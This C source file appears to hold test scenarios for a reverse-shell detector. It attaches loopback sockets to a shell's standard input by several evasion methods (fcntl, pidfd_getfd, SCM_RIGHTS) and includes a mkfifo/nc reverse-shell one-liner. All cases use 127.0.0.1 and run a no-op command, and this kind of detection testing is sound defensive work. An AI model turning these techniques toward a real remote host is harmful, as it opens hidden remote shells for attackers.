/*
 * Evasion 20: a shell whose commands come over the network, without dup(2) and its kin.
 *
 * The negative starts the same shell with the same descriptors but for the network.
 */
#include "scenario.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* A connection; decisive: of the network. */
static int connection(bool decisive)
{
    uint16_t port = 0;
    if (!decisive) {
        return open("/dev/null", O_RDWR | O_CLOEXEC);
    }
    int listener = listen_at("127.0.0.1", 0, &port);
    return listener < 0 ? -1 : connect_to(SOCK_STREAM, "127.0.0.1", port);
}

static int wait_for(pid_t pid)
{
    int status = 1;
    waitpid(pid, &status, 0);
    return status ? failed("the shell") : 0;
}

/* Standard input has been closed. */
static int shell_if(bool ready)
{
    if (ready) {
        execl("/bin/sh", "sh", "-c", ":", NULL);
    }
    return failed("standard input");
}

static int by_fcntl(bool decisive)
{
    int fd = connection(decisive);
    pid_t pid = fork();
    if (pid == 0) {
        close(STDIN_FILENO);
        _exit(shell_if(fd >= 0 && fcntl(fd, F_DUPFD, 0) == STDIN_FILENO));
    }
    return wait_for(pid);
}

/* The socket itself gets number 0. */
static int by_number(bool decisive)
{
    pid_t pid = fork();
    if (pid == 0) {
        uint16_t port = 0;
        int listener = listen_at("127.0.0.1", 0, &port);
        close(STDIN_FILENO);
        int fd = decisive ? socket(AF_INET, SOCK_STREAM, 0) : open("/dev/null", O_RDWR);
        struct sockaddr_storage to;
        socklen_t n = sizeof(to);
        getsockname(listener, (struct sockaddr *)&to, &n);
        bool ready = !decisive || connect(fd, (struct sockaddr *)&to, n) == 0;
        _exit(shell_if(fd == STDIN_FILENO && ready));
    }
    return wait_for(pid);
}

static int by_pidfd(bool decisive)
{
    int fd = connection(decisive);
    pid_t pid = fork();
    if (pid == 0) {
        int parent = (int)syscall(SYS_pidfd_open, getppid(), 0);
        close(STDIN_FILENO);
        long got = syscall(SYS_pidfd_getfd, parent, fd, 0);
        if (got == STDIN_FILENO) {
            fcntl(STDIN_FILENO, F_SETFD, 0);
        }
        _exit(shell_if(got == STDIN_FILENO));
    }
    return wait_for(pid);
}

static int send_descriptor(int to, int fd)
{
    char byte = 0;
    _Alignas(8) char control[CMSG_SPACE(sizeof(int))] = { 0 };
    struct iovec bytes = { &byte, 1 };
    struct msghdr message = { .msg_iov = &bytes,
                              .msg_iovlen = 1,
                              .msg_control = control,
                              .msg_controllen = sizeof(control) };
    struct cmsghdr *c = CMSG_FIRSTHDR(&message);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SCM_RIGHTS;
    c->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(c), &fd, sizeof(fd));
    return sendmsg(to, &message, 0) == 1 ? 0 : -1;
}

static int by_message(bool decisive)
{
    int pair[2];
    int fd = connection(decisive);
    if (fd < 0 || socketpair(AF_UNIX, SOCK_STREAM, 0, pair) < 0 || send_descriptor(pair[0], fd)) {
        return failed("SCM_RIGHTS");
    }
    pid_t pid = fork();
    if (pid == 0) {
        char byte;
        _Alignas(8) char control[CMSG_SPACE(sizeof(int))];
        struct iovec bytes = { &byte, 1 };
        struct msghdr message = { .msg_iov = &bytes,
                                  .msg_iovlen = 1,
                                  .msg_control = control,
                                  .msg_controllen = sizeof(control) };
        int got = -1;
        close(STDIN_FILENO);
        if (recvmsg(pair[1], &message, 0) == 1) {
            memcpy(&got, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof(got));
        }
        _exit(shell_if(got == STDIN_FILENO));
    }
    return wait_for(pid);
}

/* mkfifo f; sh <f | nc … >f: the shell itself never has the socket. */
static int by_fifo(bool decisive)
{
    static const char *const with[] = {
        "bash", "-c", "mkfifo /tmp/f; sh </tmp/f 2>&1 | nc -w 1 127.0.0.1 9 >/tmp/f", NULL
    };
    static const char *const without[] = { "bash", "-c", "echo : >/tmp/f; sh </opt/box/script",
                                           NULL };
    if (write_file("/opt/box/script", ":\n", 0644)) {
        return 1;
    }
    spawn(decisive ? with : without, NULL);
    return 0;
}

const struct scenario evasion_stdio[] = {
    { "by-fcntl", by_fcntl },     { "by-number", by_number }, { "by-pidfd", by_pidfd },
    { "by-message", by_message }, { "by-fifo", by_fifo },     { NULL, NULL },
};
